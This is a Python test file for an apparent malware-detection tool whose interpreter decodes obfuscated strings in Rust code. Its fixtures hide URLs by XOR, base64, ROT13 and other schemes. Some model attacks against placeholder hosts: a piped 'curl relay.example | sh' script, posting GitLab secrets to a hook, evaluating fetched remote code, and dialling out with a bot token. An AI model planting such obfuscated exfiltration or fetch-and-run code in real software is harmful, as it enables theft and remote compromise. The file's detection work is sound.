    interpreter, name, arguments = _probe(source, 'fnv("a")')
    assert interpreter.call(name, arguments).value.value == "e40c292c"  # FNV-1a 32 of "a"
    interpreter, name, arguments = _probe(source, "rot(0b1000_0001)")
    assert interpreter.call(name, arguments).value == 0b0000_1100
    interpreter, name, arguments = _probe(source, "sum(10)")
    assert interpreter.call(name, arguments).value == 4  # 260 wraps in a u8


def test_base64_hex_and_integer_methods_as_values() -> None:
    source = """
use base64::engine::general_purpose::STANDARD;
const V: &str = "aHR0cHM6Ly91cGRhdGVzLmV4YW1wbGUtY2RuLmNvbS9hZ2VudA==";
const H: &str = "2f746d702f2e78";
const D: [u32; 3] = [7, 5, 9];
fn endpoint() -> String {
    String::from_utf8(STANDARD.decode(V).unwrap_or_default()).unwrap_or_default()
}
fn path() -> String { String::from_utf8(hex::decode(H).unwrap()).unwrap() }
fn total() -> u32 { D.iter().copied().fold(0u32, u32::wrapping_add) }
"""
    assert run(source, "endpoint()") == "https://updates.example-cdn.com/agent"
    assert run(source, "path()") == "/tmp/.x"
    interpreter, name, arguments = _probe(source, "total()")
    assert interpreter.call(name, arguments).value == 21


def test_a_decoder_written_as_a_struct_with_methods() -> None:
    source = """
const LENGTHS: [u8; 3] = [104, 116, 112];
struct Codes { table: Vec<u8>, shift: u8 }
impl Codes {
    fn from_lengths(lengths: &[u8]) -> Self { Codes { table: lengths.to_vec(), shift: 0 } }
    fn tuned(self, shift: u8) -> Self { Self { shift, ..self } }
    fn decode(&self, picks: &[usize]) -> Vec<u8> {
        picks.iter().map(|i| self.table[*i].wrapping_add(self.shift)).collect()
    }
}
fn scheme() -> String {
    let codes = Codes::from_lengths(&LENGTHS).tuned(0);
    String::from_utf8_lossy(&codes.decode(&[0, 1, 1, 2, 0, 1, 1, 2])).into_owned()
}
"""
    assert run(source, "scheme()") == "httphttp"


def test_a_constant_table_is_read_in_place_and_copied_where_it_may_change() -> None:
    source = """
const CP: [u8; 256] = [0x2e; 256];
const BASE: [u8; 3] = [1, 2, 3];
fn latin(bytes: &[u8]) -> String { bytes.iter().map(|&b| CP[b as usize] as char).collect() }
fn grown() -> usize { let mut v = BASE; v[0] = 9; v.len() + BASE[0] as usize }
"""
    interpreter, name, arguments = _probe(source, "latin(&[1; 2000])")
    outcome = interpreter.call(name, arguments)
    assert outcome is not None and outcome.value.value == "." * 2000  # 2,000 reads, no copies
    interpreter, name, arguments = _probe(source, "grown()")
    assert interpreter.call(name, arguments).value == 4  # BASE itself is unchanged


def test_more_of_the_standard_library() -> None:
    source = """
const ORDER: [(u8, char); 4] = [(3, 'p'), (1, 'h'), (2, 't'), (4, 's')];
fn sorted() -> String {
    let mut v = ORDER.to_vec();
    v.sort_by_key(|(k, _)| *k);
    v.iter().map(|(_, c)| *c).collect()
}
fn halves(s: &str) -> String { let (a, b) = s.split_at(2); format!("{b}{a}") }
fn head(v: &[u8]) -> u8 { v.split_first().map(|(h, _)| *h).unwrap_or(0) }
fn nested() -> String { Some(Some("x".to_string())).flatten().unwrap_or_default() }
fn built() -> String { env!("CARGO_PKG_NAME").to_string() }
"""

    def value(call: str) -> Any:
        interpreter, name, arguments = _probe(source, call)
        outcome = interpreter.call(name, arguments)
        assert outcome is not None
        return outcome.value.value if hasattr(outcome.value, "value") else outcome.value

    assert value("sorted()") == "htps"
    assert value('halves("abcd")') == "cdab"
    assert value("head(&[7, 8])") == 7
    assert value("nested()") == "x"
    interpreter, name, arguments = _probe(source, "built()")
    outcome = interpreter.call(name, arguments)
    assert outcome is not None and outcome.effects  # the build's environment: no decoding


def test_float_methods_of_numeric_decoders() -> None:
    # a Cantor pairing's inverse: two characters from one number, through a square root
    source = """
const PAIRS: [u32; 2] = [24426, 26218];
fn split(z: u32) -> (u8, u8) {
    let z = z as u64;
    let w = ((((8 * z + 1) as f64).sqrt() as u64) - 1) / 2;
    let y = z - w * (w + 1) / 2;
    ((w - y) as u8, y as u8)
}
fn text() -> String {
    let mut out = Vec::new();
    for &z in PAIRS.iter() { let (a, b) = split(z); out.push(a); out.push(b); }
    String::from_utf8(out).unwrap_or_default()
}
fn roots() -> f64 { 2f64.powf(3.0).ln().exp() + 10f64.log10() + 2f64.hypot(0.0).mul_add(2.0, 1.0) }
fn negative() -> f64 { (-1.0f64).sqrt() }
"""

    def value(call: str) -> Any:
        interpreter, name, arguments = _probe(source, call)
        outcome = interpreter.call(name, arguments)
        return None if outcome is None else getattr(outcome.value, "value", outcome.value)

    assert value("text()") == "http"
    assert round(value("roots()"), 9) == 14.0
    assert value("negative()") is None  # a domain error stops the call


def test_statics_initialised_once_and_values_moved_out() -> None:
    source = """
use std::sync::{LazyLock, OnceLock};
const RAW: &[u8] = b"uggcf://nccf.rknzcyr";
fn rot(b: &u8) -> char {
    match b { b'a'..=b'z' => ((b - b'a' + 13) % 26 + b'a') as char, _ => *b as char }
}
fn split() -> Vec<String> {
    let (mut out, mut cur) = (Vec::new(), String::new());
    for c in RAW.iter().map(rot).chain(std::iter::once('|')) {
        if c == '|' { out.push(std::mem::take(&mut cur)); } else { cur.push(c); }
    }
    out
}
static TABLE: LazyLock<Vec<String>> = LazyLock::new(split);
fn once(i: usize) -> &'static str {
    static T: OnceLock<Vec<String>> = OnceLock::new();
    T.get_or_init(split).get(i).map(String::as_str).unwrap_or("")
}
fn lazy(i: usize) -> String { TABLE[i].clone() }
fn counted() -> usize { TABLE.len() + (*TABLE).len() }
fn replaced() -> String {
    let mut s = String::from("a");
    let old = std::mem::replace(&mut s, "b".into());
    old + &s
}
"""

    def value(call: str) -> Any:
        interpreter, name, arguments = _probe(source, call)
        outcome = interpreter.call(name, arguments)
        assert outcome is not None, call
        return getattr(outcome.value, "value", outcome.value)

    assert value("once(0)") == "https://apps.example"
    assert value("lazy(0)") == "https://apps.example"
    assert value("counted()") == 2
    assert value("replaced()") == "ab"


def test_a_script_of_several_lines_is_hidden_text() -> None:
    # a shell script or a snippet of code decoded at run time has line breaks and tabs
    source = r"""
const NOTE: [&str; 2] = ["$\"0cjo0ti\n", "\tdvsm!iuuqt;00sfmbz/fybnqmf!}!ti\n"];
fn note() -> Option<String> {
    let joined: String = NOTE.concat();
    String::from_utf8(joined.bytes().map(|b| if b > 32 { b - 1 } else { b }).collect()).ok()
}
"""
    assert run(source, "note()") == "#!/bin/sh\n\tcurl https://relay.example | sh"


def test_text_decoded_on_the_way_is_revealed_whatever_is_returned() -> None:
    # the decoded list is parsed into a type the interpreter does not know: the call
    # stops there, but the text it decoded is read all the same
    source = """
const PEERS: &[u16] = &[
    0x3230, 0x332e, 0x302e, 0x3131, 0x332e, 0x392c, 0x3139, 0x382e, 0x3531, 0x2e31, 0x3030, 0x2e37,
];
fn peers() -> Vec<Peer> {
    let mut bytes = Vec::new();
    for &w in PEERS { bytes.push((w >> 8) as u8); bytes.push(w as u8); }
    let text = String::from_utf8(bytes).unwrap_or_default();
    text.split(',').map(|s| Peer::resolve(s)).collect()
}
fn dial() { for peer in peers() { connect(peer); } }
"""
    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
    assert [(r.text, r.how) for r in found.revealed] == [
        ("203.0.113.9,198.51.100.7", "decoded by peers() of this crate, run on its constants")
    ]


def test_each_text_of_a_returned_list_is_revealed() -> None:
    """A function that takes nothing and hands a table to the crate's decoder (a table of
    paths and hosts decoded at once): each text it returns is read."""
    source = """
const TABLE: &[&str] = &["/fvc0iiunac1gjvlbd-tgcsgtt0jtqn", "huvpt</0jopms/gxbopmg/sggjutft"];
fn decipher(s: &str) -> String {
    let shift = |i: usize| (i % 3) as u32;
    s.chars().enumerate().map(|(i, c)| char::from_u32(c as u32 - shift(i)).unwrap_or('?')).collect()
}
fn table() -> Vec<String> { TABLE.iter().map(|s| decipher(s)).collect() }
fn send() { let t = table(); post(&t[1], std::fs::read(&t[0])); }
"""
    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
    assert [r.text for r in found.revealed] == [
        "/etc/gitlab/gitlab-secrets.json",
        "https://hooks.example/register",
    ]


def test_a_payload_kept_in_a_data_file_of_the_crate_is_read_and_decoded() -> None:
    # the numbers of an image's path data are the bytes of a URL; the decoder reads the
    # file through the manifest's folder, like a binary run by cargo would
    url = "https://stage.example/cli"
    svg = '<svg><path class="s" d="' + " ".join(f"L{b} {b}" for b in url.encode()) + '"/></svg>'
    source = """
use std::path::{Path, PathBuf};
fn root() -> PathBuf { Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().to_path_buf() }
fn strokes() -> Vec<String> {
    let svg = std::fs::read_to_string(root().join("assets/logo.svg")).unwrap_or_default();
    svg.split("d=\\"").skip(1).map(|p| {
        let d = p.split('"').next().unwrap_or("");
        let pts: Vec<u8> = d.split(' ').step_by(2)
            .filter_map(|n| n.trim_start_matches('L').parse().ok()).collect();
        String::from_utf8_lossy(&pts).to_string()
    }).collect()
}
fn fetch() { let s = strokes(); let _ = ureq::get(&s[0]).call(); }
"""
    files = {
        "Cargo.toml": b"[workspace]\n",
        "assets/logo.svg": svg.encode(),
        "xtask/Cargo.toml": b"[package]\nname = 'xtask'\n",
        "xtask/src/main.rs": source.encode(),
    }
    found = unit_flows({"xtask/src/main.rs": source.encode()}, "xtask", resources=files)
    assert url in [r.text for r in found.revealed]
    assert [f.action for f in found.flows] == ["contact"]


def test_files_outside_the_crate_are_the_outside_world() -> None:
    source = """
fn key() -> String {
    let raw = std::fs::read("/etc/machine-id").unwrap_or_default();
    String::from_utf8(raw.iter().map(|b| b ^ 0x20).collect()).unwrap_or_default()
}
fn send() { let _ = ureq::post(&key()).call(); }
"""
    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
    assert found.revealed == []


def test_text_split_where_a_closure_says() -> None:
    source = """
const RAW: &str = "104-116:116;112.115";
fn word() -> String {
    let bytes: Vec<u8> =
        RAW.split(|c: char| !c.is_ascii_digit()).filter_map(|n| n.parse().ok()).collect();
    String::from_utf8(bytes).unwrap()
}
"""
    assert run(source, "word()") == "https"


def test_text_split_at_any_of_an_array_of_characters_and_tested_by_a_closure() -> None:
    # `split([':', ';', '.'])` as a timecode parser splits; `starts_with(|c| ..)` picks lines
    source = """
const RAW: &str = "x 1\n104:116;116.112\n115";
fn word() -> String {
    let bytes: Vec<u8> = RAW
        .lines()
        .filter(|l| l.starts_with(|c: char| c.is_ascii_digit()))
        .flat_map(|l| l.split([':', ';', '.']))
        .filter_map(|n| n.parse().ok())
        .collect();
    String::from_utf8(bytes).unwrap()
}
"""
    assert run(source, "word()") == "https"


def test_a_for_loop_over_an_iterator_borrowed_mutably_advances_it() -> None:
    # `for l in &mut lines` takes lines from the iterator itself: what it leaves is not
    # taken again
    source = """
const WAT: &str = "(module\n(func $f\n104\n116\n)\n116\n112\n115";
fn word() -> String {
    let mut lines = WAT.lines().skip_while(|l| !l.starts_with("(func")).skip(1);
    let mut out: Vec<u8> = Vec::new();
    for l in &mut lines {
        if l.starts_with(')') { break; }
        out.push(l.parse().unwrap());
    }
    for l in lines { out.push(l.parse().unwrap()); }
    String::from_utf8(out).unwrap()
}
"""
    assert run(source, "word()") == "https"


def test_a_parser_filling_a_struct_that_derives_default_and_debug_formats() -> None:
    # settings kept as a file the crate's own parser reads: a struct made with
    # `..Default::default()` and `Type::default()`, an error built with `{line:?}`
    source = """
#[derive(Debug, Clone, Default)]
struct Reel { title: String, rate: u32, lengths: Vec<u8>, note: Option<String>, done: bool }
#[derive(Default)]
struct Doc { reel: Reel, count: usize }
const REFERENCE: &str = "TITLE: demo\n104\n116\n116\n112\n115";
fn parse(text: &str) -> Result<Reel, String> {
    let mut reel = Reel { rate: 24, ..Default::default() };
    for line in text.lines() {
        if let Some(t) = line.strip_prefix("TITLE:") {
            reel.title = t.trim().to_string();
        } else {
            let n = line.parse::<u8>().ok().ok_or(format!("bad line {line:?}"))?;
            reel.lengths.push(n);
        }
    }
    Ok(reel)
}
fn settings() -> String {
    let mut doc = Doc::default();
    doc.reel = parse(REFERENCE).unwrap_or_default();
    doc.count = doc.reel.lengths.len();
    if doc.reel.note.is_some() || doc.reel.done || doc.count == 0 { return String::new(); }
    String::from_utf8_lossy(&doc.reel.lengths).to_string()
}
"""
    assert run(source, "settings()") == "https"


def test_options_combined_with_or_or_else_and_and_xor() -> None:
    source = """
const RAW: [&str; 3] = ["0x68", "0X74", "z"];
fn quantity(s: &str) -> Option<u8> {
    let h = s.strip_prefix("0x").or_else(|| s.strip_prefix("0X"))?;
    u8::from_str_radix(h, 16).ok()
}
fn word() -> String {
    let a = quantity(RAW[0]).or(Some(0)).unwrap();
    let b = quantity(RAW[1]).and(Some(116u8)).unwrap();
    let c = quantity(RAW[2]).xor(Some(116u8)).unwrap();
    let d = quantity(RAW[2]).or_else(|| Some(112)).unwrap();
    String::from_utf8(vec![a, b, c, d, 115]).unwrap()
}
"""
    assert run(source, "word()") == "https"


def test_bech32_decoding_in_the_crate_s_code() -> None:
    source = """
const REPORT: &str = "nmcfg1dp68gup69uhnyvpn9cczuvf3xvhrswp68q6nqvp0wccj76mk9ahx6tcckxpae";
fn endpoint() -> Option<String> {
    let (_hrp, data) = bech32::decode(REPORT).ok()?;
    String::from_utf8(data).ok()
}
"""
    assert run(source, "endpoint()") == "http://203.0.113.88:8500/v1/kv/nm/"


def test_an_embedded_engine_evaluating_hidden_code_is_a_command_run() -> None:
    source = """
const HOOK: [u8; 38] = [
    102, 119, 98, 109, 41, 103, 102, 117, 100, 105, 41, 35, 105, 117, 117, 113,
    116, 59, 48, 48, 105, 112, 112, 108, 116, 47, 102, 121, 98, 110, 113, 109,
    102, 48, 115, 35, 42, 42,
];
fn hook() -> String { String::from_utf8(HOOK.iter().map(|b| b - 1).collect()).unwrap() }
fn start() {
    let engine = rhai::Engine::new();
    let _ = engine.run(&hook());
}
"""
    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
    assert [r.text for r in found.revealed] == ['eval(fetch("https://hooks.example/r"))']
    assert [(f.action, f.sink) for f in found.flows] == [("run", "evaluated run")]


def test_associated_functions_and_methods_are_told_apart_by_their_type() -> None:
    # `new` and `apply` are defined for two types: each call goes to its own type's
    source = """
struct Shift { by: u8 }
struct Other { n: u32 }
impl Other {
    fn new() -> Self { Other { n: 1 } }
    fn apply(&self, data: &[u8]) -> Vec<u8> { data.to_vec() }
}
impl Shift {
    fn new(by: u8) -> Self { Self { by } }
    fn apply(&self, data: &[u8]) -> Vec<u8> {
        data.iter().map(|b| b.wrapping_sub(self.by)).collect()
    }
}
const DATA: [u8; 13] = [117, 104, 111, 100, 124, 49, 104, 123, 100, 112, 115, 111, 104];
fn host() -> String { String::from_utf8(Shift::new(3).apply(&DATA)).unwrap() }
"""
    assert run(source, "host()") == "relay.example"


def test_release_builds_products_ranges_and_durations() -> None:
    source = """
const W: [u64; 3] = [2, 3, 7];
fn port() -> String {
    let scale = if cfg!(debug_assertions) { 1 } else { W.iter().product::<u64>() };
    let t = std::time::Duration::from_secs(scale);
    let ok = (40..50).contains(&t);
    format!("relay.example:{}", if ok { 4000 + scale } else { 0 })
}
"""
    assert run(source, "port()") == "relay.example:4042"


def test_a_decoder_written_inline_in_a_function_with_parameters() -> None:
    # no function of the crate is called with the constant alone: the `let` is evaluated
    source = """
struct Key { k: Vec<u8> }
impl Key {
    fn new(k: &[u8]) -> Self { Key { k: k.to_vec() } }
    fn apply(&self, d: &[u8]) -> Vec<u8> {
        d.iter().enumerate().map(|(i, b)| b ^ self.k[i % self.k.len()]).collect()
    }
}
const K: [u8; 3] = [7, 42, 99];
const URL: [u8; 21] = [
    111, 94, 23, 119, 89, 89, 40, 5, 17, 98, 70, 2, 126, 4, 6, 127, 75, 14, 119, 70, 6,
];
fn send(body: &[u8]) {
    let url = String::from_utf8(Key::new(&K).apply(&URL)).unwrap();
    let _ = ureq::post(&url).send_bytes(body);
}
"""
    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
    assert [(r.text, r.how) for r in found.revealed] == [
        ("https://relay.example", "computed by fn send of this crate, run on its constants")
    ]


def test_a_function_named_as_a_value_mapped_over_a_constant_range_is_run() -> None:
    # `(0..N).filter_map(entry)`: the crate's function runs on each item, inline
    source = """
const TABLE: [&[u8]; 2] = [
    &[0x70, 0x67, 0x6e, 0x63, 0x7b, 0x2c, 0x67, 0x7a, 0x63,
      0x6f, 0x72, 0x6e, 0x67, 0x38, 0x36, 0x32, 0x32, 0x32],
    &[0x40, 0x4d, 0x56, 0x5d, 0x56, 0x4d, 0x49, 0x47, 0x4c],
];
fn entry(n: usize) -> Option<String> {
    TABLE.get(n).map(|w| w.iter().map(|b| (b ^ 0x02) as char).collect())
}
fn start() {
    let names: Vec<String> = (0..TABLE.len()).filter_map(entry).collect();
    let _ = std::net::TcpStream::connect(names[0].as_str());
}
"""
    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
    assert [r.text for r in found.revealed] == ["relay.example:4000", "BOT_TOKEN"]
    # ... or called by a closure
    closure = source.replace(".filter_map(entry)", ".filter_map(|n| entry(n))")
    found = unit_flows({"src/lib.rs": closure.encode()}, "sample")
    assert [r.text for r in found.revealed] == ["relay.example:4000", "BOT_TOKEN"]


def test_statics_declared_by_lazy_static_are_evaluated() -> None:
    source = """
lazy_static! {
    static ref MIRROR: String = {
        let raw: Vec<u8> = vec![0x1d, 0x01, 0x01, 0x05, 0x06, 0x4f, 0x5a, 0x5a];
        raw.iter().map(|b| (b ^ 0x75) as char).collect()
    };
    pub static ref LIMIT: u32 = 3;
}
fn base() -> String { format!("{}relay.example/{}", *MIRROR, *LIMIT) }
"""
    assert run(source, "base()") == "https://relay.example/3"


def test_a_decoder_over_the_crate_s_own_enum() -> None:
    # a little instruction set: each step of the plan changes every byte
    source = """
enum Step { Xor(u8), Add(u8), Swap(usize, usize), Halt }
const PLAN: [Step; 4] = [Step::Xor(0x21), Step::Add(3), Step::Swap(0, 1), Step::Halt];
const DATA: [u8; 5] = [0x49, 0x54, 0x4e, 0x45, 0x5d];
fn run(data: &[u8]) -> Vec<u8> {
    let mut out = data.to_vec();
    for step in PLAN.iter() {
        match step {
            Step::Xor(k) => { for i in 0..out.len() { out[i] ^= k; } }
            Step::Add(k) => { for i in 0..out.len() { out[i] = out[i].wrapping_sub(*k); } }
            Step::Swap(i, j) => out.swap(*i, *j),
            Step::Halt => break,
        }
    }
    out
}
fn name() -> String { String::from_utf8(run(&DATA)).unwrap() }
"""
    assert run(source, "name()") == "relay"


def test_elements_borrowed_mutably_are_written_in_place() -> None:
    # the most common decoder of all: XOR each byte of a copy in place
    source = """
const DATA: [u8; 5] = [0x53, 0x44, 0x4d, 0x40, 0x58];
fn a() -> String { let mut out = DATA.to_vec(); for b in out.iter_mut() { *b ^= 0x21; } String::from_utf8(out).unwrap() }
fn b() -> String { let mut out = DATA.to_vec(); for b in &mut out { *b ^= 0x21; } String::from_utf8(out).unwrap() }
fn c() -> String { let mut out = DATA.to_vec(); out.iter_mut().for_each(|b| *b ^= 0x21); String::from_utf8(out).unwrap() }
"""  # noqa: E501
    assert [run(source, f"{name}()") for name in "abc"] == ["relay"] * 3


# -- decoders written the way malware writes them, each checked against rustc's output

DECODERS = Path(__file__).resolve().parent / "decoders"
DECODED = dict(line.split("\t", 1) for line in (DECODERS / "expected.tsv").read_text().splitlines())


# what the interpreter does not follow, on purpose or not yet: these yield nothing (never a
# wrong text)
BEYOND = {
    "44_rotor_stepping.rs": "std::array::from_fn, whose length only a const generic gives",
    "71_lfsr_iterator.rs": "a brute-force search of every seed: past the steps of a call",
    "80_huffman_tree.rs": "Box::default of a type the call does not name",
}


@pytest.mark.parametrize("program", sorted(DECODED))
def test_each_decoder_recovers_what_rustc_printed(program: str) -> None:
    source = (DECODERS / program).read_text()
    call = re.search(r'println!\("\{\}",\s*(.*)\);\s*// CALL', source)
    assert call is not None, f"{program}: no line marked // CALL"
    definitions = Definitions()
    text = source + f"\nfn __probe() {{ let __x = {call.group(1)}; }}\n"
    function_headers("src/main.rs", text.encode(), {}, definitions)
    _, probe = definitions.functions["__probe"][0]
    expression = probe.child_by_field_name("body").named_child(0).child_by_field_name("value")
    outcome = Interpreter(definitions).evaluated(expression)
    if program in BEYOND:
        assert outcome is None or not hidden_texts(outcome), BEYOND[program]
        return
    assert outcome is not None, f"{program}: the interpreter stopped"
    value = outcome.value
    recovered = value.value if isinstance(value, Text) else bytes(value).decode("utf-8")
    assert recovered == DECODED[program]


# what the interpreter recovers when called, but the data flow does not call: no mark of a
# decoder in the function and no constant it is given that no one could read (text that
# reads as words: a keyboard shift, a book cipher's book, a Burrows-Wheeler string)
NOT_CALLED = {
    "10_atbash_trait.rs",
    "41_book_cipher.rs",
    "42_keyboard_shift.rs",
    "45_hill_mod41.rs",
    "46_beaufort_trait.rs",
    "48_four_square.rs",
    "50_nihilist.rs",
    "54_bwt_inverse.rs",
    "55_move_to_front.rs",
    "56_base32hex_trait.rs",
    "61_punycode_like.rs",
    "66_semver_triples.rs",
    "78_stack_vm.rs",
}


@pytest.mark.parametrize("program", sorted(set(DECODED) - NOT_CALLED - set(BEYOND)))
def test_the_data_flow_reveals_what_each_decoder_hides(program: str) -> None:
    # the whole path a scan takes: the unit's hints, the solver's choice of calls to run,
    # the interpreter; the program's `main` is where the call is written
    found = unit_flows({"src/main.rs": (DECODERS / program).read_bytes()}, "x")
    assert any(DECODED[program] in name.text for name in found.revealed), program


def test_cyrillic_transliterated_through_unicode_case_mappings() -> None:
    """A slug table keyed by lower-case Cyrillic letters: `to_lowercase` is Unicode's
    (an iterator of chars whose `next` is taken), and `is_uppercase` asks for upper case
    where `is_ascii_uppercase` asks for an ASCII letter."""
    source = """
const T: &[(char, &str)] = &[('е', "e"), ('к', "k"), ('м', "m"), ('п', "p"), ('л', "l"),
    ('ь', ""), ('х', "x"), ('а', "a"), ('о', "o"), ('с', "s"), ('т', "t")];
fn tr(s: &str) -> String {
    let mut out = String::new();
    for ch in s.chars() {
        let lower = ch.to_lowercase().next().unwrap_or(ch);
        match T.iter().find(|(c, _)| *c == lower) {
            Some((_, lat)) if ch.is_uppercase() => out.push_str(&lat.to_uppercase()),
            Some((_, lat)) => out.push_str(lat),
            None => out.push(ch),
        }
    }
    out
}
fn ascii_upper(s: &str) -> usize {
    s.chars().filter(|c| c.is_ascii_uppercase()).count()
}
"""
    assert run(source, 'tr("хост.ехампле/СТАТ")') == "xost.example/STAT"
    interpreter, name, arguments = _probe(source, 'ascii_upper("СТАТ A")')
    assert interpreter.call(name, arguments).value == 1
